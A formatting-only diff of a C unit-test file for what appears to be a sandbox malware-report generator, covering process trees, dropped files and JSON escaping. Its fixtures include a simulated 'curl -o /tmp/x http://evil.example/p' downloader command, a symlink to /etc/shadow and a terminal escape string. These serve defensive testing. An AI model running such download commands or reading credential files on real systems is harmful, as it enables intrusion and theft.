@@ -49,7 +49,7 @@ static void ev_argv(struct event *ev, const char *const *argv)
 
 static void ev_inet(struct event *ev, const char *ip, uint16_t port)
 {
-	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons(port) };
+	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(port)};
 
 	inet_pton(AF_INET, ip, &sin.sin_addr);
 	memcpy(ev->data, &sin, sizeof(sin));
@@ -60,8 +60,8 @@ static void ev_inet(struct event *ev, const char *ip, uint16_t port)
 /* Everything a short run of a downloader produces. */
 static void feed_run(struct report *r, const char *argv1)
 {
-	const char *argv_sh[] = { "/bin/sh", argv1, NULL };
-	const char *argv_curl[] = { "curl", "-o", "/tmp/x", "http://evil.example/p", NULL };
+	const char *argv_sh[] = {"/bin/sh", argv1, NULL};
+	const char *argv_curl[] = {"curl", "-o", "/tmp/x", "http://evil.example/p", NULL};
 	struct event ev;
 
 	ev = ev_make(EV_PROC_EXEC, 10, 1, 1);
@@ -107,7 +107,8 @@ static void feed_run(struct report *r, const char *argv1)
 
 static struct report *report_build(const char *name, const char *argv1)
 {
-	struct report_object obj = { .name = name, .type = "POSIX shell script", .mime = "text/x-shellscript" };
+	struct report_object obj = {
+	        .name = name, .type = "POSIX shell script", .mime = "text/x-shellscript"};
 	struct report *r;
 
 	assert_int_equal(hash_buf("echo\n", 5, &obj.hashes), 0);
@@ -156,8 +157,8 @@ static json_object *jget(json_object *o, const char *key)
 static void json_has_the_agreed_top_level_keys(void **state)
 {
 	static const char *const keys[] = {
-		"schema_version", "sha256", "object", "analysis", "verdict", "processes",
-		"events", "network", "dropped", "output",
+	        "schema_version", "sha256", "object",  "analysis", "verdict",
+	        "processes",      "events", "network", "dropped",  "output",
 	};
 	struct report *r = report_build("x.sh", "x.sh");
 	json_object *o = report_parse(r, NULL);
@@ -221,15 +222,16 @@ static void process_tree_follows_fork_exec_exit(void **state)
 	assert_int_equal(json_object_get_int(jget(sh, "exit_code")), 3);
 	assert_int_equal(json_object_array_length(jget(sh, "children")), 1);
 	assert_int_equal(json_object_get_int(json_object_array_get_idx(jget(sh, "children"), 0)),
-			 11);
+	                 11);
 
 	assert_int_equal(json_object_get_int(jget(curl, "ppid")), 10);
 	assert_int_equal(json_object_get_int(jget(curl, "start_ms")), 2);
 	assert_int_equal(json_object_get_int(jget(curl, "end_ms")), 8);
 	assert_int_equal(json_object_get_int(jget(curl, "signal")), 9);
 	assert_int_equal(json_object_array_length(jget(curl, "argv")), 4);
-	assert_string_equal(json_object_get_string(json_object_array_get_idx(jget(curl, "argv"), 3)),
-			    "http://evil.example/p");
+	assert_string_equal(
+	        json_object_get_string(json_object_array_get_idx(jget(curl, "argv"), 3)),
+	        "http://evil.example/p");
 	assert_int_equal(json_object_array_length(jget(curl, "execs")), 1);
 	json_object_put(o);
 	report_free(r);
@@ -307,7 +309,7 @@ static void hostile_strings_stay_valid_json_and_escaped(void **state)
 	/* Valid UTF-8 (checked by the strict parser); the ESC survives only as \u001b. */
 	assert_null(memchr(text, 0x1b, strlen(text)));
 	assert_non_null(strstr(json_object_get_string(json_object_array_get_idx(argv, 1)),
-			       "\x1b[2Jpwn\xef\xbf\xbd"));
+	                       "\x1b[2Jpwn\xef\xbf\xbd"));
 
 	f = open_memstream(&summary, &slen);
 	assert_int_equal(report_print_summary(r, f), 0);
@@ -338,7 +340,7 @@ static void timeline_is_capped_and_says_so(void **state)
 	assert_int_equal(json_object_array_length(jget(o, "events")), 100000);
 	assert_true(json_object_get_boolean(jget(jget(o, "analysis"), "events_truncated")));
 	assert_int_equal(json_object_get_int(jget(jget(jget(o, "analysis"), "omitted"), "events")),
-			 5);
+	                 5);
 	json_object_put(o);
 	report_free(r);
 }
@@ -359,7 +361,7 @@ static void dropped_file_is_saved_read_only_under_its_digest(void **state)
 	static const char content[] = "#!/bin/sh\necho dropped\n";
 	_cleanup_close_ int dfd = tmpdir_open(dir);
 	_cleanup_close_ int src = -1;
-	struct report_dropped d = { .path = "/tmp/dropper.sh", .kind = "file", .mode = 0755 };
+	struct report_dropped d = {.path = "/tmp/dropper.sh", .kind = "file", .mode = 0755};
 	struct file_hashes h;
 	struct report *r;
 	struct stat st;
@@ -399,9 +401,12 @@ static void dropped_symlink_records_only_its_target(void **state)
 	char dir[] = "/tmp/test-report-XXXXXX";
 	_cleanup_close_ int dfd = tmpdir_open(dir);
 	struct report_dropped d = {
-		.path = "/tmp/l", .kind = "symlink", .link_target = "/etc/shadow", .content_fd = -1,
+	        .path = "/tmp/l",
+	        .kind = "symlink",
+	        .link_target = "/etc/shadow",
+	        .content_fd = -1,
 	};
-	struct report_dropped del = { .path = "/tmp/gone", .kind = "deleted", .content_fd = -1 };
+	struct report_dropped del = {.path = "/tmp/gone", .kind = "deleted", .content_fd = -1};
 	struct report *r;
 	json_object *o, *e;
 
@@ -426,16 +431,16 @@ static void dropped_symlink_records_only_its_target(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(json_has_the_agreed_top_level_keys),
-		cmocka_unit_test(verdict_is_none_never_clean),
-		cmocka_unit_test(process_tree_follows_fork_exec_exit),
-		cmocka_unit_test(events_and_network_are_decoded),
-		cmocka_unit_test(event_names_round_trip),
-		cmocka_unit_test(summary_shows_tree_network_and_no_routine_opens),
-		cmocka_unit_test(hostile_strings_stay_valid_json_and_escaped),
-		cmocka_unit_test(timeline_is_capped_and_says_so),
-		cmocka_unit_test(dropped_file_is_saved_read_only_under_its_digest),
-		cmocka_unit_test(dropped_symlink_records_only_its_target),
+	        cmocka_unit_test(json_has_the_agreed_top_level_keys),
+	        cmocka_unit_test(verdict_is_none_never_clean),
+	        cmocka_unit_test(process_tree_follows_fork_exec_exit),
+	        cmocka_unit_test(events_and_network_are_decoded),
+	        cmocka_unit_test(event_names_round_trip),
+	        cmocka_unit_test(summary_shows_tree_network_and_no_routine_opens),
+	        cmocka_unit_test(hostile_strings_stay_valid_json_and_escaped),
+	        cmocka_unit_test(timeline_is_capped_and_says_so),
+	        cmocka_unit_test(dropped_file_is_saved_read_only_under_its_digest),
+	        cmocka_unit_test(dropped_symlink_records_only_its_target),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
